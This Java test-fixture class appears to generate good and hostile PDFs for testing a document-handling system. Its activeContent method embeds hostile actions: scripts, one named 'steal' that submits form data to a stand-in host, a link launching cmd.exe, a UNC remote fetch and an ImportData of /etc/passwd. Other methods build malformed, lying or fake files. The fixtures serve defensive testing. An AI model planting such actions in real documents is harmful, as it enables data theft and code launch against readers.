package vn.hopso.documents.testing;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType0Font;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import vn.hopso.documents.pdf.PdfLimits;

/**
 * PDFs made in the test, good and hostile, so that no test depends on a file from outside: text in Vietnamese, a scan
 * without text, encrypted ones, active content, a lying page count, deep nesting, damaged and fake files.
 */
public final class TestPdfs {

    private TestPdfs() {
    }

    /** One A4 page per text, the text drawn with an embedded font that has every Vietnamese letter. */
    public static byte[] text(String... pages) {
        return save(document -> {
            PDType0Font font = PDType0Font.load(document, PdfLimits.DEJAVU_SANS.toFile());
            for (String text : pages) {
                PDPage page = new PDPage(PDRectangle.A4);
                document.addPage(page);
                try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                    content.beginText();
                    content.setFont(font, 14);
                    content.newLineAtOffset(60, 760);
                    content.showText(text);
                    content.endText();
                }
            }
        });
    }

    /**
     * Three pages whose first reaches the others the ways real files do: a link to page 3, a note naming the page it
     * sits on, and a reply to a note on page 2 (which names page 2).
     */
    public static byte[] crossLinked() {
        return resave(text("Trang một có mục lục", "Trang hai bí mật", "Trang ba bí mật"), document -> {
            PDPage first = document.getPage(0);
            PDPage second = document.getPage(1);
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(60, 700, 200, 20));
            PDPageFitDestination toThird = new PDPageFitDestination();
            toThird.setPage(document.getPage(2));
            link.setDestination(toThird);
            PDAnnotationText onSecond = new PDAnnotationText();
            onSecond.setRectangle(new PDRectangle(60, 600, 20, 20));
            onSecond.setPage(second);
            second.getAnnotations().add(onSecond);
            PDAnnotationText reply = new PDAnnotationText();
            reply.setRectangle(new PDRectangle(60, 600, 20, 20));
            reply.setPage(first);
            reply.setInReplyTo(onSecond);
            first.setAnnotations(new java.util.ArrayList<>(java.util.List.of(link, reply)));
        });
    }

    /** A scanned page: an image and no text layer. */
    public static byte[] scan() {
        return save(document -> {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            BufferedImage image = new BufferedImage(200, 280, BufferedImage.TYPE_INT_RGB);
            Graphics2D g = image.createGraphics();
            g.setColor(Color.WHITE);
            g.fillRect(0, 0, 200, 280);
            g.setColor(Color.BLACK);
            g.fillRect(20, 20, 160, 8);
            g.dispose();
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.drawImage(LosslessFactory.createFromImage(document, image), 0, 0, 595, 842);
            }
        });
    }

    /** Opening needs a password ("có mật khẩu"). */
    public static byte[] userPassword() {
        return encrypted("chu-so-huu", "mat-khau-mo");
    }

    /** Anyone may open it; only its restrictions (no printing, no copying) need the owner password. */
    public static byte[] ownerPasswordOnly() {
        return encrypted("chu-so-huu", "");
    }

    private static byte[] encrypted(String owner, String user) {
        return resave(text("Tài liệu được bảo vệ"), document -> {
            AccessPermission permissions = new AccessPermission();
            permissions.setCanPrint(false);
            permissions.setCanExtractContent(false);
            StandardProtectionPolicy policy = new StandardProtectionPolicy(owner, user, permissions);
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
        });
    }

    /**
     * Every kind of active content on one page: a script run on open, a document-level script, a script when the
     * page opens, a link that launches a program, one that submits form data, one that opens a remote document.
     */
    public static byte[] activeContent() {
        return resave(text("Dự thảo nghị quyết có mã độc"), document -> {
            PDActionJavaScript onOpen = new PDActionJavaScript("app.alert('mở');");
            document.getDocumentCatalog().setOpenAction(onOpen);
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(java.util.Map.of("steal", new PDActionJavaScript("this.submitForm('http://x/');")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
            PDPage page = document.getPage(0);
            PDPageAdditionalActions pageActions = new PDPageAdditionalActions();
            pageActions.setO(new PDActionJavaScript("app.launchURL('http://x/');"));
            page.setActions(pageActions);
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString(COSName.F, "cmd.exe");
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.getCOSObject().setString(COSName.F, "http://127.0.0.1:9/thu");
            PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
            remote.getCOSObject().setString(COSName.F, "\\\\server\\share\\x.pdf");
            COSDictionary importData = new COSDictionary();
            importData.setName(COSName.S, "ImportData");
            importData.setString(COSName.F, "/etc/passwd");
            List<org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation> links = new ArrayList<>();
            int y = 100;
            for (COSDictionary action : List.of(launch.getCOSObject(), submit.getCOSObject(), remote.getCOSObject(),
                    importData)) {
                PDAnnotationLink link = new PDAnnotationLink();
                link.setRectangle(new PDRectangle(60, y, 200, 20));
                link.getCOSObject().setItem(COSName.A, action);
                links.add(link);
                y += 40;
            }
            page.setAnnotations(links);
        });
    }

    /** Three real pages whose page tree claims a billion. */
    public static byte[] lyingPageCount() {
        return resave(text("1", "2", "3"), document ->
                document.getDocumentCatalog().getCOSObject().getCOSDictionary(COSName.PAGES)
                        .setInt(COSName.COUNT, 1_000_000_000));
    }

    /** A valid-looking page whose resources hold an array nested {@code depth} deep. */
    public static byte[] deeplyNested(int depth) {
        String nested = "[".repeat(depth) + "]".repeat(depth);
        return RawPdf.onePage("/Foo " + nested);
    }

    public static byte[] truncated() {
        byte[] whole = text("Báo cáo thẩm tra bị cắt giữa chừng", "Trang hai");
        return Arrays.copyOf(whole, whole.length / 2);
    }

    /** A web page saved with a .pdf name. */
    public static byte[] notPdf() {
        return "<html><body><script>alert('x')</script>Tờ trình</body></html>".getBytes(StandardCharsets.UTF_8);
    }

    interface Build {
        void on(PDDocument document) throws IOException;
    }

    private static byte[] save(Build build) {
        try (PDDocument document = new PDDocument()) {
            build.on(document);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] resave(byte[] pdf, Build change) {
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            change.on(document);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
